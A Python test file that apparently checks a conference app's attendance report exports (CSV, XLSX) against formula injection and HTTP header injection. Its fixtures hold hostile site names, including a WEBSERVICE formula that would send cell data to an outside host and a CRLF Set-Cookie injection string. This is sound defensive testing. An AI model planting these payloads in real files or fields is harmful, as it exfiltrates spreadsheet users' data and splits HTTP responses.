"""The report downloads against hostile names: formulas come back as text (CSV and XLSX),
numbers stay numbers, and the Content-Disposition header is safe for any site name."""

import csv
import io
from datetime import datetime
from urllib.parse import unquote

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlmodel import Session, col

from app.accounts.models import User
from endpoints.models import Participation, Site
from sessions import service as sessions_service
from sessions.models import ConferenceSession, SessionCreate
from tests.conftest import Tree

CSV_URL = "/api/v1/conferences/{cid}/reports/attendance.csv"
XLSX_URL = "/api/v1/conferences/{cid}/reports/attendance.xlsx"
HOSTILE = ['=WEBSERVICE("http://x/?"&B3)', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def _rename(db: Session, site_id: int, name: str) -> None:
    # Written straight to the tables: the API refuses tabs and CRs, the export must not rely on it.
    db.execute(update(Site).where(col(Site.id) == site_id).values(name=name))
    db.execute(
        update(Participation).where(col(Participation.site_id) == site_id).values(name=name)
    )


@pytest.fixture
def hostile(db: Session, admin: User, tree: Tree) -> Tree:
    """Hubs, wards and a session named like formulas (and a tab, a carriage return)."""
    sites = [tree.hub_a, tree.hub_b, tree.ward_a1, tree.ward_a2, tree.ward_b1, tree.central]
    for site_id, name in zip(sites, HOSTILE, strict=True):
        _rename(db, site_id, name)
    session = sessions_service.create_session(
        db, conference_id=tree.cid, actor=admin,
        data=SessionCreate(title="Phiên", starts_at=datetime(2025, 9, 9, 8, 0),
                           ends_at=datetime(2025, 9, 9, 9, 0)),
    )
    db.execute(update(ConferenceSession).where(col(ConferenceSession.id) == session.id)
               .values(title="=1+2"))
    db.commit()
    return tree


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("level", ["site", "hub"])
def test_csv_neutralises_formula_names(
    client: TestClient, admin_headers: dict[str, str], hostile: Tree, level: str
) -> None:
    r = client.get(CSV_URL.format(cid=hostile.cid) + f"?level={level}", headers=admin_headers)
    assert r.status_code == 200, r.text
    cells = [cell for row in _csv(r.content) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    hubs = ["'" + HOSTILE[0], "'+1"]
    expected = hubs if level == "hub" else ["'" + name for name in HOSTILE]
    assert set(expected) <= set(cells)


def test_xlsx_writes_formula_names_as_text_and_counts_as_numbers(
    client: TestClient, admin_headers: dict[str, str], hostile: Tree
) -> None:
    r = client.get(XLSX_URL.format(cid=hostile.cid), headers=admin_headers)
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))  # not data_only: formulas would show
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r")
                    texts.add(cell.value)
    # XML turns a stored CR into LF on reading; the quote in front is what matters.
    assert {"'" + name.replace("\r", "\n") for name in HOSTILE} <= texts
    assert "'=1+2" in texts
    sites = book["Điểm cầu"]
    header = [c.value for c in sites[1]]
    expected = [row[header.index("Dự kiến")] for row in sites.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in expected)


def test_report_file_name_of_a_hostile_site_is_a_safe_header(
    client: TestClient, admin_headers: dict[str, str], db: Session, tree: Tree
) -> None:
    name = 'Hà Nội; "x"\r\nSet-Cookie: a=b/..\\東京'
    _rename(db, tree.hub_b, name)
    db.commit()
    r = client.get(CSV_URL.format(cid=tree.cid) + f"?under_id={tree.hub_b}",
                   headers=admin_headers)
    assert r.status_code == 200, r.text
    assert "set-cookie" not in r.headers
    value = r.headers["content-disposition"]
    fallback = value.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith(".csv") and "Ha-Noi" in fallback
    assert not set(fallback) & set(';"\\/\r\n ')
    encoded = value.split("filename*=UTF-8''", 1)[1]
    assert not set(encoded) & set(';"\\/\r\n ')
    assert "Hà-Nội" in unquote(encoded) and "東京" in unquote(encoded)
